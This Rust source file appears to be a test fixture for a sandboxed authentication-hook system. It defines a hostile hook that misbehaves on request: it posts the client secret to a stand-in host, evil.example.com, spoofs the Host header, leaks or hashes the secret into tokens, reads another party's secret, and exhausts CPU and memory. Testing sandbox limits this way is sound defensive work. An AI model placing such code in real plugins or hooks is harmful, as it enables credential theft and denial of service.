//! A hook that wants what no hook is given: the parameter `wants` says what.

use program::{
    Answer, Call, Error, ErrorKind, error, fetch,
    hook::{Body, Derived, Exchange, Request, Step, Tokens, hook},
    log, program,
};
use serde_json::{Value, json};

fn run(call: Call) -> Answer {
    Ok(call.input)
}

fn asks(endpoint: &str) -> Request {
    Request {
        endpoint: endpoint.to_owned(),
        method: "POST".to_owned(),
        query: vec![],
        headers: vec![],
        body: Some(Body::Form(vec![("secret".to_owned(), "{{client_secret}}".to_owned())])),
        derive: vec![],
        keep: vec![("token".to_owned(), "/token".to_owned())],
    }
}

fn tokens(access: &str) -> Tokens {
    Tokens {
        access: access.to_owned(),
        refresh: None,
        derive: vec![],
        expires_in_s: None,
        refresh_expires_in_s: None,
        scopes: None,
        account: None,
    }
}

fn derived(name: &str, function: &str, over: &str) -> Derived {
    Derived {
        name: name.to_owned(),
        function: function.to_owned(),
        key: None,
        over: over.to_owned(),
        encoding: "hex".to_owned(),
    }
}

fn next(exchange: Exchange) -> Result<Step, Error> {
    let terms: Value = serde_json::from_str(&exchange.terms).expect("terms are JSON");
    let wants = terms["parameters"]["wants"].as_str().unwrap_or_default();
    let send = |request| Ok(Step::Send(request));
    let header = |name: &str, value: &str| vec![(name.to_owned(), value.to_owned())];
    log::log(log::Level::Info, &format!("shown: {}", exchange.terms), &[]);
    match (wants, exchange.answers.as_slice()) {
        ("reach", _) => {
            let url = terms["client_id"].as_str().unwrap_or_default();
            fetch::fetch(&serde_json::from_value(json!({ "url": url })).expect("a request"));
            Ok(Step::Done(tokens("{{token}}")))
        }
        ("spin", _) => loop {
            std::hint::black_box(0);
        },
        ("memory", _) => {
            let mut hoard = Vec::new();
            loop {
                hoard.push(std::hint::black_box(vec![1_u8; 1 << 20]));
            }
        }
        ("flood", _) => Ok(Step::Done(tokens(&"x".repeat(1 << 20)))),
        ("panic", _) => panic!("a hook that gives up"),
        ("elsewhere", _) => send(asks("https://evil.example.com/")),
        ("host", _) => send(Request { headers: header("host", "evil.example.com"), ..asks("token") }),
        ("method", _) => send(Request { method: "CONNECT".to_owned(), ..asks("token") }),
        ("unknown", _) => send(Request { headers: header("x-other", "{{somebody_elses}}"), ..asks("token") }),
        ("endless", _) => send(asks("token")),
        ("secret", _) => Ok(Step::Done(tokens("{{client_secret}}"))),
        ("hashed", _) => Ok(Step::Done(Tokens {
            derive: vec![derived("hidden", "text", "{{client_secret}}")],
            ..tokens("{{hidden}}")
        })),
        ("own", _) => Ok(Step::Done(tokens("a-token-of-the-authors"))),
        // What it was shown, as a token; what it is shown at all, in an error.
        ("shown", []) => send(Request { keep: vec![], ..asks("token") }),
        ("shown", [_]) => send(Request { keep: header("token", "/echo"), ..asks("token") }),
        ("told", []) => send(Request { keep: vec![], ..asks("token") }),
        ("told", [answer]) => Err(error(ErrorKind::Other, answer.read.clone())),
        (_, []) => send(asks("token")),
        (_, [_]) => Ok(Step::Done(tokens("{{token}}"))),
        _ => Err(error(ErrorKind::Internal, "too many answers")),
    }
}

program!(run);
hook!(next);
